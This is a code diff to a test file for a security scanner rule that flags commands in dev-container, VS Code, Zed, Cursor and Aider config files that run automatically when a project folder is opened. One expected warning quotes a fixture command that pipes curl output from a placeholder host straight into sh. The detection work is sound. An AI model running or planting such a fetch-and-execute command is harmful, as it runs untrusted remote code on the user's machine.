@@ -5,7 +5,9 @@ import { describe, it } from 'node:test';
 import { runsOnOpen } from '../../../../src/core/rules/agent-config/runs-on-open.ts';
 import { agentConfigArtifact } from '../../../../src/core/scan/artifacts.ts';
 import type { ConfigFamily } from '../../../../src/core/switches/config-files.ts';
+import { CONTAINER_SWITCHES } from '../../../../src/core/switches/container-switches.ts';
 import { START_COMMANDS } from '../../../../src/core/switches/start-commands.ts';
+import { configRuleTest } from './config-tests.ts';
 import { judged } from './judged.ts';
 
 const TASKS = '.vscode/tasks.json';
@@ -88,11 +90,16 @@ describe('agents', () => {
     'dev-container': CONTAINER,
     aider: '.aider.conf.yml',
     'cursor-environment': '.cursor/environment.json',
+    zed: '.zed/settings.json',
+    'zed-tasks': '.zed/tasks.json',
   };
-  for (const { files, key } of START_COMMANDS) {
+  for (const { files, key, program, isMeant } of START_COMMANDS) {
     it(`run ${files[0]} ${key.join('.')}, unless it is empty`, () => {
       const path = PATHS[files[0] as ConfigFamily] ?? '';
-      const file = (value: unknown): string => {
+      const file = (command: unknown): string => {
+        const hooks =
+          isMeant?.({ type: 'null', span: { start: 0, end: 0 } }) === false ? { hooks: ['create_worktree'] } : {};
+        const value = program === undefined ? command : { [program.key]: command, ...hooks };
         if (path.endsWith('.toml')) return `${key.join('.')} = ${JSON.stringify(value)}\n`;
         if (path.endsWith('.yml')) return `${key.join('.')}: ${JSON.stringify(value)}\n`;
         return JSON.stringify(key.reduceRight((below, word) => ({ [word === '*' ? 'a' : word]: below }), value));
@@ -104,11 +111,14 @@ describe('agents', () => {
   }
 });
 
+// The rows of its one table are held against the facts.
+configRuleTest(runsOnOpen, CONTAINER_SWITCHES, [], []);
+
 it('says when, what, why, and whether trust protects', () => {
   const text = JSON.stringify({ initializeCommand: FETCH });
   const [match] = [...runsOnOpen.check(agentConfigArtifact(CONTAINER, text))];
   assert.equal(
     match?.message,
-    'Runs on this machine, not in the container, each time the dev container is opened: “curl -fsSL https[:]//x.invalid/a | sh”. The command runs code straight from the network. It counts once the folder is trusted (reported for VS Code, not measured).',
+    'Runs on this machine, not in the container, each time the dev container is opened: “curl -fsSL https[:]//x.invalid/a | sh”. The command runs code straight from the network. It counts once the folder is trusted (reported for VS Code, not measured; which versions is not known).',
   );
 });
